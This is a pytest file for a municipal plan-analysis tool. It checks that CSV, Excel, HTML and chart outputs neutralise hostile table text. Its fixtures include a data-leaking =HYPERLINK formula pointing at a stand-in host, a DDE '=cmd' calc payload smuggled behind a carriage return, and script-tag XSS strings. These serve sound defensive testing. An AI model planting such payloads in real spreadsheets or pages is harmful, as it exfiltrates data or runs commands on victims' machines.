"""Text from the tables is inert in every output: no formula in a CSV or the workbook, no
markup or TeX in the HTML, no mathtext in a chart; Parquet and the DataFrames keep it exact.

The hostile texts are set by hand on copies of the seed's processed tables (`frames`): item
2021-001 gets a name and texts that spreadsheets read as formulas, and the section 社会福祉課
is renamed `$x^2$課` (or `$\\frac$課`, which mathtext cannot even parse) in every table.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import nbformat
import openpyxl
import pandas as pd
import pytest
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure
from matplotlib.text import Text

from plan_analysis.outputs import csv_bytes, write_table
from plan_analysis.report import charts, network, style
from plan_analysis.report.figures import draw, figure_functions, write_figures
from plan_analysis.report.notebooks import DISPLAY_OPTIONS, execute_notebook, export_html
from plan_analysis.report.summary import summary_sheets, xlsx_bytes
from plan_analysis.years.diffs import html_diff

from .conftest import code_notebook

HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"a")'
#: Item 2021-001's name and texts, each starting with a character that makes a formula.
HOSTILE_ITEM = {
    "name": HYPERLINK,
    "name_raw": HYPERLINK,
    "content": "+1",
    "content_raw": "+1",
    "past_efforts": "-2",
    "past_efforts_raw": "-2",
    "plans": "@SUM(A1)",
    "plans_raw": "@SUM(A1)",
}
SECTION = "社会福祉課"
MATH_SECTION = "$x^2$課"
BROKEN_MATH_SECTION = "$\\frac$課"


def renamed(frames: dict, names: dict[str, str]) -> dict[str, pd.DataFrame]:
    """A copy of `frames` with every text cell equal to a key of `names` replaced."""
    out = {}
    for table, df in frames.items():
        df = df.copy()
        for column in df.columns:
            if pd.api.types.is_string_dtype(df[column]) or df[column].dtype == object:
                df[column] = df[column].map(lambda v: names.get(v, v) if isinstance(v, str) else v)
        out[table] = df
    return out


def hostile(frames: dict, section: str = MATH_SECTION) -> dict[str, pd.DataFrame]:
    """The seed's tables with item 2021-001's texts of HOSTILE_ITEM and 社会福祉課 renamed."""
    out = renamed(frames, {SECTION: section})
    items = out["items"]
    first = items["item_id"] == "2021-001"
    assert first.sum() == 1
    for column, text in HOSTILE_ITEM.items():
        items.loc[first, column] = text
    return out


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- CSV -------------------------------------------------------------------------------


def test_csv_cells_that_would_be_formulas_get_a_leading_quote(frames) -> None:
    tables = hostile(frames)
    data = csv_bytes(tables["items"])
    (row,) = [r for r in csv_rows(data) if r["item_id"] == "2021-001"]
    assert row["name"] == '\'=HYPERLINK("http://x/?leak="&A1,"a")'
    assert row["name_raw"] == '\'=HYPERLINK("http://x/?leak="&A1,"a")'
    assert row["content"] == row["content_raw"] == "'+1"
    assert row["past_efforts"] == row["past_efforts_raw"] == "'-2"
    assert row["plans"] == row["plans_raw"] == "'@SUM(A1)"
    # the cell as Excel reads it: quoted (it holds quotes and a comma), quote first
    assert ',"\'=HYPERLINK(""http://x/?leak=""&A1,""a"")",' in data.decode("utf-8-sig")
    # the table itself keeps the exact text
    kept = tables["items"].set_index("item_id").loc["2021-001"]
    assert kept["name"] == HYPERLINK and kept["past_efforts"] == "-2"


def test_csv_escapes_tab_and_carriage_return_but_not_numbers_or_other_text() -> None:
    df = pd.DataFrame(
        {
            "n": [-2, 3, 4, 5],
            "x": [-0.5, 1.0, 2.0, 3.0],
            "ok": [True, False, True, False],
            "t": ["a-b", "\tx", "\rx", None],
            "o": pd.Series([-1, "-y", "'z", " =w"], dtype=object),
        }
    )
    assert (
        csv_bytes(df)
        == (
            "\ufeffn,x,ok,t,o\n"
            "-2,-0.5,True,a-b,-1\n"
            "3,1.0,False,'\tx,'-y\n"
            "4,2.0,True,'\rx,'z\n"
            "5,3.0,False,, =w\n"
        ).encode()
    )
    assert df["t"].tolist()[:3] == ["a-b", "\tx", "\rx"]  # the frame is unchanged
    assert df["o"].tolist() == [-1, "-y", "'z", " =w"]


def test_csv_of_the_seed_is_plain_pandas_csv(frames) -> None:
    """No seed cell needs escaping, so every table's CSV is exactly what it was."""
    for name, df in frames.items():
        plain = df.to_csv(index=False, lineterminator="\n").encode("utf-8-sig")
        assert csv_bytes(df) == plain, name


def test_parquet_keeps_the_exact_text_and_the_csv_file_is_escaped(frames, tmp_path) -> None:
    tables = hostile(frames)
    write_table(tables["items"], "items", tmp_path)
    write_table(tables["item_departments"], "item_departments", tmp_path)
    items = pd.read_parquet(tmp_path / "items.parquet").set_index("item_id")
    for column, text in HOSTILE_ITEM.items():
        assert items.loc["2021-001", column] == text
    departments = pd.read_parquet(tmp_path / "item_departments.parquet")
    assert MATH_SECTION in set(departments["department"])
    rows = csv_rows((tmp_path / "items.csv").read_bytes())
    (row,) = [r for r in rows if r["item_id"] == "2021-001"]
    assert row["name"] == "'" + HYPERLINK and row["plans"] == "'@SUM(A1)"


# --- workbook --------------------------------------------------------------------------


def test_workbook_writes_formula_like_text_as_text(frames) -> None:
    data = xlsx_bytes(summary_sheets(hostile(frames)))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 10  # 目次 and the 9 tables of one year
        for name in sheets:
            xml = zf.read(name)
            assert re.search(rb"<f[ >]", xml) is None, name  # no formula anywhere
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["事業一覧"]
    header = [c.value for c in ws[1]]
    (row,) = [r for r in ws.iter_rows(min_row=2) if r[header.index("事業ID")].value == "2021-001"]
    cell = row[header.index("事業名")]
    assert cell.value == '=HYPERLINK("http://x/?leak="&A1,"a")'
    assert cell.data_type == "s"
    assert cell.quotePrefix  # stays text when edited in Excel
    departments = wb["所管課別事業数"]
    names = [r[1] for r in departments.iter_rows(min_row=2)]
    (section,) = [c for c in names if c.value == "$x^2$課"]
    assert section.data_type == "s"


def test_workbook_quote_prefixes_every_formula_like_text_and_nothing_else() -> None:
    df = pd.DataFrame(
        {"name": ["=1+1", "+1", "-2", "@SUM(A1)", "普通", "a=b"], "n_items": [-1, 2, 3, 4, 5, 6]}
    )
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"表": df})))["表"]
    cells = [r[0] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["=1+1", "+1", "-2", "@SUM(A1)", "普通", "a=b"]
    assert [c.data_type for c in cells] == ["s"] * 6
    assert [c.quotePrefix for c in cells] == [True, True, True, True, False, False]
    numbers = [r[1] for r in ws.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in numbers][:2] == [(-1, "n"), (2, "n")]


# --- charts ----------------------------------------------------------------------------


def _width(text: Text, renderer) -> float:
    return text.get_window_extent(renderer).width


def test_a_section_named_like_mathtext_is_drawn_literally(frames) -> None:
    fig = draw("items_per_department", hostile(frames), 2021)
    fig.savefig(io.BytesIO(), format="png", dpi=50)
    (tick,) = [
        t for t in fig.axes[0].get_yticklabels() if "課" in t.get_text() and "$" in t.get_text()
    ]
    assert tick.get_text() == "$x^2$課"
    assert not tick.get_parse_math()
    # drawn as written: as wide as the literal text, not as the typeset x²課
    canvas = FigureCanvasAgg(fig)
    canvas.draw()
    renderer = canvas.get_renderer()
    props = tick.get_fontproperties()
    literal = fig.text(0, 0, "$x^2$課", fontproperties=props, parse_math=False)
    typeset = fig.text(0, 0, "$x^2$課", fontproperties=props, parse_math=True)
    assert _width(tick, renderer) == pytest.approx(_width(literal, renderer))
    assert _width(typeset, renderer) < 0.9 * _width(literal, renderer)


def test_every_council_figure_draws_a_broken_mathtext_owner(frames, tmp_path) -> None:
    """With mathtext, `$\\frac$課` raises ValueError at drawing; the report must not."""
    tables = hostile(frames, BROKEN_MATH_SECTION)
    tables["documents"] = tables["documents"].assign(plan_title="$\\frac$ 計画")
    written = {p.name for p in write_figures(tables, tmp_path)}
    for name in figure_functions():  # one year: all but the trends, year links and grades
        drawn = "trend" not in name and name not in ("year_link_counts", "grade_by_goal")
        assert ({f"{name}.png", f"{name}.svg"} <= written) == drawn, name
    fig = draw("co_ownership_network", tables, 2021)
    texts = [t for t in fig.findobj(Text) if "$" in t.get_text()]
    assert BROKEN_MATH_SECTION in {t.get_text() for t in texts}  # a node label
    assert any("$\\frac$ 計画" in t.get_text() for t in texts)  # the footnote
    assert [t.get_text() for t in texts if t.get_parse_math()] == []


def _math_texts(fig: Figure) -> list[str]:
    """The texts of `fig` holding a `$` that matplotlib would parse as mathtext."""
    fig.savefig(io.BytesIO(), format="svg")
    return [t.get_text() for t in fig.findobj(Text) if "$" in t.get_text() and t.get_parse_math()]


def test_ticks_legends_bar_labels_titles_and_network_labels_are_literal() -> None:
    name = "$x^2$課"
    series = pd.Series([3, 1], index=pd.Index([name, "福祉課"], name="department"), name="n")
    table = pd.DataFrame({name: [1, 2], "$y$": [2, 1]}, index=pd.Index([name, "b"], name="x"))
    trend = pd.DataFrame({name: [1, 2], "$y$": [2, 3]}, index=pd.Index([2021, 2022]))
    figures = {
        "bars": charts.bar_chart(series, title=f"{name}の事業"),
        "stacked": charts.stacked_bar_chart(table, legend_title=name),
        "heatmap": charts.heatmap(table),
        "lines": charts.line_chart(trend),
        "network": network.network_chart(
            pd.DataFrame({"word_a": [name], "word_b": ["$\\frac$"], "jaccard": [0.5]}),
            pd.DataFrame({"word": [name, "$\\frac$"], "freq": [3, 2]}),
            title=name,
        ),
    }
    for kind, fig in figures.items():
        drawn = {t.get_text() for t in fig.findobj(Text)}
        assert any(name in text for text in drawn), kind
        assert _math_texts(fig) == [], kind


def test_house_style_turns_mathtext_off_for_a_notebooks_own_plots() -> None:
    assert style._house_params()["text.parse_math"] is False


# --- HTML ------------------------------------------------------------------------------


def _notebook(stream_pieces: list[str], html: str) -> nbformat.NotebookNode:
    """A notebook as papermill leaves it: fresh random cell ids, a print, an HTML output."""
    nb = nbformat.v4.new_notebook()
    outputs = [nbformat.v4.new_output("stream", name="stdout", text=t) for t in stream_pieces]
    display = nbformat.v4.new_output("display_data", data={"text/html": html, "text/plain": ""})
    nb.cells = [
        nbformat.v4.new_markdown_cell("## 年度比較"),
        nbformat.v4.new_code_cell("print('行数の合計:', 94)", outputs=outputs),
        nbformat.v4.new_code_cell("display(HTML(...))", outputs=[display]),
    ]
    return nb


def test_two_exports_of_a_rerun_are_byte_identical(tmp_path) -> None:
    """Cell ids differ between runs, and a print may arrive in one piece or two."""
    table = pd.DataFrame({"事業名": ["<script>alert(1)</script>", "$x^2$課"]})
    with pd.option_context(*[x for item in DISPLAY_OPTIONS.items() for x in item]):
        shown = table._repr_html_()
    first, second = (
        _notebook(["行数の合計: 94\n"], shown),
        _notebook(["行数の合計:", " 94\n"], shown),
    )
    assert [c.id for c in first.cells] != [c.id for c in second.cells]
    nbformat.write(first, tmp_path / "a.ipynb")
    nbformat.write(second, tmp_path / "b.ipynb")
    a = export_html(tmp_path / "a.ipynb", tmp_path / "a.html").read_bytes()
    b = export_html(tmp_path / "b.ipynb", tmp_path / "b.html").read_bytes()
    assert a == b
    html = a.decode("utf-8")
    assert 'id="cell-id=cell-01"' in html
    assert "行数の合計: 94" in html
    # table text is escaped, and no TeX renderer is loaded to typeset $x^2$
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)" not in html
    assert "MathJax" not in html and "mathjax/" not in html  # neither configured nor loaded
    assert '<table border="1" class="dataframe tex2jax_ignore' in html  # ignored by Jupyter's


def test_html_diff_escapes_both_texts() -> None:
    assert html_diff("<b>a</b>", "<b>b</b>") == (
        '<div class="tex2jax_ignore" style="white-space:pre-wrap">&lt;b&gt;'
        '<del style="background:#fdd">a</del>'
        '<ins style="background:#dfd;text-decoration:none">b</ins>'
        "&lt;/b&gt;</div>"
    )
    assert html_diff('"x" & y', "'x' & y") == (
        '<div class="tex2jax_ignore" style="white-space:pre-wrap">'
        '<del style="background:#fdd">&quot;x&quot;</del>'
        '<ins style="background:#dfd;text-decoration:none">&#x27;x&#x27;</ins>'
        " &amp; y</div>"
    )


def test_a_notebook_run_twice_over_ipc_exports_identical_html(
    tmp_path, capfd, notebook_kernel
) -> None:
    """Once in a kernel of its own, once in the worker's (reused) kernel: both over IPC, the
    same page."""
    code_notebook(
        tmp_path / "01_t.ipynb",
        "name = ''",
        "import json\nfrom ipykernel.connect import get_connection_info\n"
        "print(json.loads(get_connection_info())['transport'], name)",
    )
    html = []
    for run, kernel in (("first", None), ("second", notebook_kernel)):
        executed = execute_notebook(
            tmp_path / "01_t.ipynb", tmp_path / run, {"name": "$x^2$課"}, tmp_path, kernel
        )
        outputs = nbformat.read(executed, 4).cells[-1].outputs
        assert "".join(o["text"] for o in outputs if o["output_type"] == "stream") == (
            "ipc $x^2$課\n"
        )
        html.append(export_html(executed, tmp_path / f"{run}.html").read_bytes())
    assert html[0] == html[1]
    assert "without encryption" not in capfd.readouterr().err


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_in_excel():
    """The csv module quotes a cell with a line feed, not one with a lone CR."""
    frame = pd.DataFrame({"name": ["x\r=cmd|' /C calc'!A0", "a\r\nb", "ok"], "n": [1, 2, 3]})
    text = csv_bytes(frame).decode("utf-8-sig")
    assert text == 'name,n\n"x\n=cmd|\' /C calc\'!A0",1\n"a\nb",2\nok,3\n'
    assert frame["name"].tolist()[0] == "x\r=cmd|' /C calc'!A0"  # the table keeps its text


def test_report_tables_of_hostile_items_are_escaped(frames) -> None:
    """`report.table`, as the notebooks show tables: a name that is markup stays text, and
    one that is TeX is marked for Jupyter's renderer to leave alone."""
    from plan_analysis.report import table

    tables = hostile(frames)
    items = tables["items"].copy()
    items.loc[items["item_id"] == "2021-002", "name"] = "<script>alert(1)</script>"
    html = table(items[["item_id", "name", "plans", "is_repost"]]).to_html()
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "=HYPERLINK(&#34;http://x/?leak=&#34;&amp;A1,&#34;a&#34;)" in html or (
        "=HYPERLINK(&quot;http://x/?leak=&quot;&amp;A1,&quot;a&quot;)" in html
    )
    assert "tex2jax_ignore" in html
    departments = table(tables["workload_departments"]).to_html()
    assert ">$x^2$課<" in departments  # as written, in a table MathJax would not touch


def test_a_hostile_heading_is_an_escaped_title(tmp_path) -> None:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# 02 <script>alert(1)</script>\n\n本文")]
    nbformat.write(nb, tmp_path / "02_x.ipynb")
    html = export_html(tmp_path / "02_x.ipynb", tmp_path / "02_x.html").read_text("utf-8")
    assert "<title>02 &lt;script&gt;alert(1)&lt;/script&gt;</title>" in html
    assert '<html lang="ja">' in html
    assert "cdnjs" not in html and "require.js" not in html  # nothing fetched from a CDN
